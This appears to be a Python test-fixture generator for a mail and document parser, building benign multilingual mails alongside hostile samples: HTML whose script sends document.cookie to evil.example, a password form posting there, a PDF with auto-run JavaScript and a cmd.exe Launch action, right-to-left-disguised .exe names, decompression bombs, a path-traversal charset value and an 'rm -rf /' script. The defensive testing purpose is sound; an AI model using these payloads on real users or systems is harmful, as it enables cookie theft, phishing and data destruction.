#!/usr/bin/env python3
"""Makes the sample mails and documents, good and hostile, from nothing.

    generate.py OUT [--demo|--mails]

Writes OUT/NAME.eml (mails) and OUT/files/NAME (documents), and OUT/expected.tsv, the
table that table.py explains. --demo makes only the dozen mails that `make demo` sends,
--mails only mails.
"""
import base64
import os
import random
import sys
import zlib
from email import policy as email_policy
from email.message import EmailMessage

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import containers  # noqa: E402
import documents as doc  # noqa: E402
import hwp  # noqa: E402
import mails  # noqa: E402
import office_samples  # noqa: E402
import pdf_samples  # noqa: E402
import picture_samples  # noqa: E402
import table  # noqa: E402
import text_samples  # noqa: E402
import unseen_samples  # noqa: E402
from table import document, mail, raw_mail  # noqa: E402

DATE = "Tue, 17 Mar 2026 09:30:00 +0800"
JA_BODY = ("拝啓　平素より格別のご高配を賜り、厚く御礼申し上げます。\n"
           "次回の会議は三月二十四日（火）午後二時からです。資料は添付のとおりです。\n敬具\n")
TW_BODY = ("林小姐您好：\n三月份海岸監測資料已整理完畢，請查收附件。\n如有問題請與我聯絡，謝謝。\n")
CN_BODY = "您好：\n附件是本季度的会议纪要，请查阅。\n如需修改请于周五之前回复。谢谢！\n"


def head(subject="Sample", sender="Harriet Lowe <h.lowe@tidewater.example>", to="reader@agency.example",
         extra="", mid="sample"):
    return ("From: %s\nTo: %s\nSubject: %s\nDate: %s\nMessage-ID: <%s@tidewater.example>\n%s"
            % (sender, to, subject, DATE, mid, extra)).encode()


def message(subject, sender="Harriet Lowe <h.lowe@tidewater.example>", mid="sample"):
    m = EmailMessage(policy=email_policy.SMTP)
    m["From"] = sender
    m["To"] = "Reader <reader@agency.example>"
    m["Subject"] = subject
    m["Date"] = DATE
    m["Message-ID"] = "<%s@tidewater.example>" % mid
    return m


def attach(m, data, kind, name):
    main, sub = kind.split("/")
    m.add_attachment(data, maintype=main, subtype=sub, filename=name)


def legacy(subject, body, charset, header_charset, encoding, mid):
    """A mail as a mailer of its country writes it: encoded words and 8-bit or 7-bit body."""
    word = "=?%s?B?%s?=" % (header_charset, base64.b64encode(subject.encode(charset)).decode())
    top = head(word, mid=mid, extra="MIME-Version: 1.0\nContent-Type: text/plain; charset=%s\n"
               "Content-Transfer-Encoding: %s\n" % (header_charset, encoding))
    return top + b"\n" + body.encode(charset)


HOSTILE_HTML = """<html><head><style>@import url(http://evil.example/x.css);</style>
<script>document.location='http://evil.example/?'+document.cookie</script></head>
<body onload="alert(1)"><p>Dear customer, please sign in at
<a href="http://secure-bank.example.attacker.example/login">https://www.bank.example/</a> today.</p>
<p><a href="javascript:alert(document.domain)">Open the statement</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">document</a>
<a href="\\\\fileserver\\share\\x.lnk">shared folder</a>
<a href="//protocol-relative.example/x">here</a>
<a href="http://3232235777/">internal</a>
<a href="http://xn--80ak6aa92e.example/">apple</a>
<a href="mailto:someone@else.example?subject=x">write</a> <a href="tel:+886212345678">call</a></p>
<img src="http://tracker.example/pixel.gif?id=77" alt="logo"><iframe src="http://evil.example/"></iframe>
<form action="http://evil.example/post"><input name="password"></form>
<span style="display:none">hidden words for filters</span>
<p>Plain: www.example.net, http://user:pass@host.example:8080/p?q#f and evil.example/path.</p>
<table><tr><td>Invoice</td><td>42</td></tr></table></body></html>
"""


def demo_mails():
    mail("01-plain", head("Agenda for Tuesday", mid="plain") +
         b"\nDear Ms Lin,\n\nthe agenda is ready; see https://tidewater.example/agenda for the room.\n\n"
         b"Yours,\nHarriet Lowe\n", [("0", "container"), ("1", "text")])

    m = message("Please verify your account", "Your Bank <service@bank.example>", mid="html")
    m["Reply-To"] = "collect@quickmail.example"
    m.set_content("Please read the HTML version.\n")
    m.add_alternative(HOSTILE_HTML, subtype="html")
    mail("02-html-links", m.as_bytes(), [("0", "container"), ("1", "text"), ("2", "text|images")], hostile=True)

    mail("03-japanese", legacy("会議のお知らせ", JA_BODY, "iso2022_jp", "ISO-2022-JP", "7bit", "ja"),
         [("0", "container"), ("1", "text")])
    mail("04-big5", legacy("三月份監測資料", TW_BODY, "big5", "Big5", "8bit", "tw"),
         [("0", "container"), ("1", "text")])
    mail("05-gb18030", legacy("会议纪要", CN_BODY, "gb18030", "GB18030", "8bit", "cn"),
         [("0", "container"), ("1", "text")])

    m = message("Report with five pages", mid="pdf")
    m.set_content("The report is attached.\n")
    pages = [["Coastal survey, page %d" % (i + 1), ""] +
             ["Line %d: the water level at gauge %d was %d mm above datum." % (j, j, 100 + 7 * i * j)
              for j in range(40)] for i in range(5)]
    attach(m, doc.text_pdf(pages), "application/pdf", "coastal-survey.pdf")
    mail("06-pdf", m.as_bytes(), [("0", "container"), ("1", "text"), ("2", "images")])

    m = message("Photo of the site", mid="photo")
    m.set_content("Taken this morning.\n")
    attach(m, doc.jpeg(doc.ppm(800, 600, doc.photo_rows(800, 600)), 88), "image/jpeg", "site.jpg")
    mail("07-photo", m.as_bytes(), [("0", "container"), ("1", "text"), ("2", "images")])

    m = message("Signed letter, scanned", mid="scan")
    m.set_content("The letter is attached as a scan.\n")
    letter = doc.text_pdf([["Harbour Office", "", "Dear Ms Lin,", "", "we confirm the receipt of your letter of 3 March.",
                            "The gauge will be read every six hours from April on.", "", "Yours sincerely", "R. Marsh"]])
    attach(m, doc.image_pdf(*doc.scan_jpeg(letter)), "application/pdf", "letter.pdf")
    mail("08-scan", m.as_bytes(), [("0", "container"), ("1", "text"), ("2", "images")])

    inner = message("Original question", "Robert Marsh <r.marsh@harbour.example>", mid="inner")
    inner.set_content("Could you send the figures of February?\n")
    attach(inner, doc.text_pdf([["Figures of February"]]), "application/pdf", "february.pdf")
    m = message("Fwd: Original question", mid="nested")
    m.set_content("See the mail below.\n")
    m.add_attachment(inner)
    mail("09-nested", m.as_bytes(),
         [("0", "container"), ("1", "text"), ("2", "container"), ("2.1", "text"), ("2.2", "images")])

    mail("10-broken-mime", head("Broken on the way", mid="broken", extra="MIME-Version: 1.0\n"
         "Content-Type: multipart/mixed; boundary=\"b1\"\n") +
         b"\nThis is a multi-part message.\n--b1\nContent-Type: text/plain; charset=nonsense-8\n"
         b"Content-Transfer-Encoding: base64\n\nVGhpcyBsaW5lIGlzIGZpbmUu!!!not base64 at all\n"
         b"--b1\nContent-Type: text/html\n\n<p>unclosed <b>tags <i>everywhere\n--b2--\nlost lines after a wrong boundary\n",
         [("0", "container")], hostile=True)

    m = message("Invoice 2026-117", "Accounts <accounts@tidewater-institute.example>", mid="hostile1")
    m.set_content("Open the invoice at once.\n")
    evil = doc.text_pdf([["Invoice 2026-117", "Pay to the new account."]],
                        catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/AcroForm<</Fields[]>>",
                        page_extra=b"/AA<</O<</S/Launch/F(cmd.exe)>>>>/Annots[<</Type/Annot/Subtype/Link"
                                   b"/Rect[60 700 300 800]/A<</S/URI/URI(http://evil.example/pay)>>>>]")
    attach(m, evil, "application/pdf", "invoice\u202efdp.exe")
    attach(m, b"MZ" + bytes(60) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200), "application/pdf", "statement.pdf")
    mail("11-hostile-attachments", m.as_bytes(),
         [("0", "container"), ("1", "text"), ("2", "images"), ("3", "stub", "never")], hostile=True)

    m = message("bomb", mid="hostile2")
    m.set_content("Nothing to see.\n")
    bomb = doc.Pdf()
    tree = bomb.reserve()
    content = bomb.add(b"<</Filter/FlateDecode>>", zlib.compress(b"q 1 0 0 1 0 0 cm 0 0 m 600 800 l S Q\n" * 400000, 9))
    page = bomb.add(b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R>>" % (tree, content))
    bomb.set(tree, b"<</Type/Pages/Count 99999999/Kids[%d 0 R]>>" % page)
    attach(m, bomb.finish(bomb.add(b"<</Type/Catalog/Pages %d 0 R>>" % tree)), "application/pdf", "pages.pdf")
    attach(m, doc.png(20, 20, [bytes(60)] * 20).replace(b"\0\0\0\x14\0\0\0\x14", b"\0\1\0\0\0\1\0\0", 1),
           "image/png", "giant.png")
    mail("12-hostile-bombs", m.as_bytes(), [("0", "container"), ("1", "text")], hostile=True)


def damaged_mails():
    """What must end in named outcomes whatever it is."""
    rnd = random.Random(1)
    whole = message("Whole", mid="whole")
    whole.set_content("Body.\n")
    attach(whole, doc.text_pdf([["one"], ["two"]]), "application/pdf", "two.pdf")
    data = whole.as_bytes()
    for cut in (1, 40, 200, len(data) // 2, len(data) - 30):
        raw_mail("damage-truncated-%d" % cut, data[:cut], [("0", "container|text|stub", "*")])
    raw_mail("damage-binary", rnd.randbytes(20000), [("0", "stub|text|container", "*")])
    raw_mail("damage-empty", b"", [("0", "stub", "empty")])
    raw_mail("damage-newlines", b"\r\n\r\n\r\n", [("0", "stub|container", "*")])
    raw_mail("damage-nul-filled", b"Subject: nul\r\n\r\n" + bytes(30000), [("0", "container", "*")])
    raw_mail("damage-nul-header", b"From: a\0b@c.example\r\nSubject: x\0y\r\n\r\nbody\0text\r\n", [("0", "container")])
    raw_mail("damage-bare-cr", b"Subject: cr\r\n\r\nline one\rline two\rline three\r\n", [("0", "container"), ("1", "text")])
    raw_mail("damage-no-header", b"just words without any header at all\r\nsecond line\r\n", [("0", "container|text", "*")])
    raw_mail("damage-header-only", b"From: a@b.example\r\nSubject: only headers\r\n", [("0", "container|stub", "*")])
    nest = b"deep inside\n"
    for level in range(100):
        nest = (b"Content-Type: multipart/mixed; boundary=n%d\n\n--n%d\n" % (level, level)) + nest + b"--n%d--\n" % level
    mail("damage-nested-multipart", head("100 levels", extra="MIME-Version: 1.0\n", mid="deep") + nest,
         [("0", "container", "*")])
    inner = b"From: x@y.example\nSubject: innermost\n\nhello\n"
    for level in range(100):
        inner = b"From: x@y.example\nSubject: level %d\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n" % level + inner
    mail("damage-nested-mails", inner, [("0", "container", "*")])
    many = head("50,000 parts", extra="MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=m\n", mid="many") + b"\n"
    many += b"--m\nContent-Type: text/plain\n\nx\n" * 50000 + b"--m--\n"
    mail("damage-many-parts", many, [("0", "container", "limit-parts")])
    mail("damage-header-bomb", b"Subject: bomb\n" + b"X-Pad: " + b"a" * 900 + b"\n" * 1 +
         b"".join(b"X-%d: %s\n" % (i, b"b" * 900) for i in range(3000)) + b"\nbody\n", [("0", "container", "*")])
    mail("damage-header-line", b"Subject: " + b"long " * 200000 + b"\n\nbody\n", [("0", "container", "*")])
    mail("damage-rfc2047-bomb", b"Subject: " + b"=?utf-8?B?" * 50000 + b"\n\nbody\n", [("0", "container", "*")])
    mail("damage-charset-lies", legacy("嘘", JA_BODY, "shift_jis", "US-ASCII", "8bit", "lie"),
         [("0", "container"), ("1", "text")])
    mail("damage-charset-unknown", head("x", extra="MIME-Version: 1.0\nContent-Type: text/plain; charset=../../etc/passwd\n",
         mid="uc") + b"\nbody text\n", [("0", "container"), ("1", "text")])
    mail("damage-boundary-missing", head("x", extra="MIME-Version: 1.0\nContent-Type: multipart/mixed\n", mid="bm") +
         b"\nno boundary anywhere\n", [("0", "container", "*")])
    mail("damage-html-deep", head("x", extra="MIME-Version: 1.0\nContent-Type: text/html\n", mid="hd") + b"\n" +
         b"<div>" * 100000 + b"deep" + b"</div>" * 100000, [("0", "container"), ("1", "text|stub", "*")])
    mail("damage-html-attributes", head("x", extra="MIME-Version: 1.0\nContent-Type: text/html\n", mid="ha") + b"\n<p " +
         b"".join(b"a%d=1 " % i for i in range(30000)) + b">text</p>", [("0", "container"), ("1", "text|stub", "*")])
    mail("damage-base64-huge-line", head("x", extra="MIME-Version: 1.0\nContent-Type: text/plain\n"
         "Content-Transfer-Encoding: base64\n", mid="bl") + b"\n" + base64.b64encode(b"word " * 400000),
         [("0", "container"), ("1", "text", "*")])
    mail("damage-bidi", head("Invoice \u202etxt.exe".encode().decode("utf-8"), extra="MIME-Version: 1.0\n"
         "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n", mid="bidi") +
         "\npay\u202e gnp.exe \u200bzero\u200bwidth \U000e0041\U000e0042tags\n".encode(),
         [("0", "container"), ("1", "text")])
    mail("damage-rtl-name", head("n", extra="MIME-Version: 1.0\nContent-Type: application/octet-stream;"
         " name=\"=?utf-8?B?%s?=\"\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n"
         % base64.b64encode("photo\u202egpj.exe".encode()).decode(), mid="rtl") + b"\n" +
         base64.b64encode(b"MZ" + bytes(500)), [("0", "container"), ("1", "stub", "never")])


def more_mails():
    """Ordinary variety."""
    for name, charset, label, body in (
            ("koi8", "koi8_r", "KOI8-R", "Здравствуйте! Отчёт во вложении.\n"),
            ("win1251", "cp1251", "windows-1251", "Добрый день, коллеги.\n"),
            ("sjis", "shift_jis", "Shift_JIS", JA_BODY), ("eucjp", "euc_jp", "EUC-JP", JA_BODY),
            ("euckr", "euc_kr", "EUC-KR", "안녕하세요. 회의 자료를 보냅니다.\n"),
            ("latin1", "latin-1", "iso-8859-1", "Grüße aus Köln, à bientôt.\n"),
            ("utf16", "utf-16", "UTF-16", "Wide characters.\n"),
            ("gb2312", "gb2312", "GB2312", "中文邮件测试。\n"),
            ("greek", "iso8859_7", "ISO-8859-7", "Καλημέρα κόσμε.\n"),
            ("thai", "tis_620", "TIS-620", "สวัสดีครับ\n"), ("hebrew", "iso8859_8", "ISO-8859-8", "שלום עולם\n")):
        raw = body.encode(charset)
        top = head("charset " + name, extra="MIME-Version: 1.0\nContent-Type: text/plain; charset=%s\n"
                   "Content-Transfer-Encoding: base64\n" % label, mid=name)
        mail("charset-" + name, top + b"\n" + base64.encodebytes(raw), [("0", "container"), ("1", "text")])
    m = message("format flowed and quotes", mid="flowed")
    m.set_content("> quoted\n> lines\n\nanswer\n")
    mail("form-quotes", m.as_bytes(), [("0", "container"), ("1", "text")])
    m = message("related", mid="related")
    m.set_content("plain\n")
    m.add_alternative('<p>Logo <img src="cid:logo"></p>', subtype="html")
    m.get_payload()[1].add_related(doc.png(40, 40, [b"\x20\x60\xa0" * 40] * 40), "image", "png", cid="<logo>")
    mail("form-related", m.as_bytes(), [("0", "container")])
    uu = head("uuencoded", mid="uu") + b"\nsee file\n\nbegin 644 note.txt\n"
    import binascii
    for i in range(0, 400, 45):
        uu += binascii.b2a_uu((b"uuencoded text line. " * 40)[i:i + 45])
    mail("form-uuencode", uu + b"`\nend\n", [("0", "container")])
    m = message("attachments of all the small kinds", mid="kinds")
    m.set_content("many\n")
    attach(m, b"a,b\n1,2\n", "text/csv", "table.csv")
    attach(m, b"PK\x03\x04" + bytes(100), "application/zip", "x.zip")
    attach(m, b"#!/bin/sh\nrm -rf /\n", "text/plain", "notes.txt")
    attach(m, b"", "application/pdf", "empty.pdf")
    attach(m, b"\x7fELF" + bytes(100), "application/octet-stream", "tool")
    mail("form-kinds", m.as_bytes(), [("0", "container"), ("1", "text"), ("2", "text"), ("3", "stub|container", "unsupported|format|empty"),
         ("4", "stub", "never"), ("5", "stub", "empty"), ("6", "stub", "never")])
    mail("form-pgp", head("pgp", extra='MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol='
         '"application/pgp-encrypted"; boundary=p\n', mid="pgp") + b"\n--p\nContent-Type: application/pgp-encrypted\n\n"
         b"Version: 1\n--p\nContent-Type: application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\n\nhQEMA\n"
         b"-----END PGP MESSAGE-----\n--p--\n", [("0", "container")])


def documents():
    document("one-page.pdf", doc.text_pdf([["one page"]]), "images", pages=1, words="one page")
    document("twelve-pages.pdf", doc.text_pdf([["page %d" % i] for i in range(12)]), "images", pages=12, words=("page 0", "page 11"))
    for c, lines in (("Japan1", ["第一回会議資料", "日本語の本文です。"]), ("CNS1", ["海岸監測資料", "請查收。"]),
                     ("GB1", ["会议纪要", "请查阅。"])):
        document("cjk-%s.pdf" % c.lower(), doc.cjk_pdf(lines, c), "images")
    good = doc.text_pdf([["one page"]])
    document("cut-half.pdf", good[:len(good) // 2], "images|stub", "complete|format|pages-failed", hostile=True)
    document("cut-xref.pdf", good[:good.rindex(b"xref")], "images|stub", "complete|format|pages-failed", hostile=True)
    document("header-only.pdf", b"%PDF-1.7\n", "stub", "format|empty", hostile=True)
    document("huge-page.pdf", doc.text_pdf([["x"]]).replace(b"[0 0 595 842]", b"[0 0 99999 99999]"), "images|stub", "*", hostile=True)
    document("zero-page.pdf", doc.text_pdf([["x"]]).replace(b"[0 0 595 842]", b"[0 0 0 0]"), "images|stub", "*", hostile=True)
    loop = doc.Pdf()
    tree = loop.reserve()
    loop.set(tree, b"<</Type/Pages/Count 1000/Kids[%d 0 R %d 0 R]>>" % (tree, tree))
    document("loop-pages.pdf", loop.finish(loop.add(b"<</Type/Catalog/Pages %d 0 R>>" % tree)), "stub|images", "*", hostile=True)
    grey = [bytes((x * y) & 255 for x in range(64)) for y in range(64)]
    document("grey.png", doc.png(64, 64, grey, 0), "images")
    document("colour.png", doc.png(64, 64, [bytes((x * 3 + y) & 255 for x in range(192)) for y in range(64)]), "images")
    document("text-chunk.png", doc.png(8, 8, [bytes(24)] * 8, 2, [(b"tEXt", b"Comment\0secret words")]), "images")
    document("colour-raw.ppm", doc.ppm(32, 32, [bytes(range(96))] * 32), "images")
    document("grey-raw.pgm", doc.pgm(32, 32, [bytes(range(32))] * 32), "images")
    p = doc.png(64, 64, grey, 0)
    document("cut-end.png", p[:len(p) - 40], "images|stub", "complete|format|pages-failed", hostile=True)
    document("giant-sides.png", doc.png(4, 4, [bytes(12)] * 4).replace(b"\0\0\0\4\0\0\0\4", b"\1\0\0\0\1\0\0\0", 1),
             "stub", "limit-pixels|format", hostile=True)
    document("notes.txt", "Plain notes, see http://example.net/x\n".encode(), "text")
    document("utf16.txt", "Wide notes\n".encode("utf-16"), "text")
    document("letter.html", b"<html><body><h1>Minutes</h1><p>All agreed.</p></body></html>", "text|images",
             words=("Minutes", "All agreed."), lacks="<h1>")
    document("page.html", HOSTILE_HTML.encode(), "text|images", hostile=True)
    document("tool.exe", b"MZ" + bytes(60) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200), "stub", "never", hostile=True)
    document("lies.pdf", b"MZ" + bytes(400), "stub", "never", hostile=True)
    document("noise.bin", random.Random(5).randbytes(5000), "stub", "unsupported", hostile=True)
    document("nothing-at-all.pdf", b"", "stub", "empty", hostile=True)


def main():
    if len(sys.argv) < 2:
        sys.stderr.write(__doc__)
        return 2
    table.open_folder(sys.argv[1])
    demo_mails()
    if "--demo" not in sys.argv:
        with table.hostile_samples():
            damaged_mails()
        more_mails()
    if len(sys.argv) == 2:
        documents()
        for module in (office_samples, pdf_samples, picture_samples, text_samples, unseen_samples):
            module.samples()
        containers.archive_samples(document, table.expect, random.Random(7))
        hwp.samples(table)
        mails.html_samples(table, head)
        mails.report_samples(table, head)
        mails.signed_samples(table, head)
        containers.message_samples(document, table.expect, raw_mail, head)
    table.save()
    return 0


if __name__ == "__main__":
    sys.exit(main())
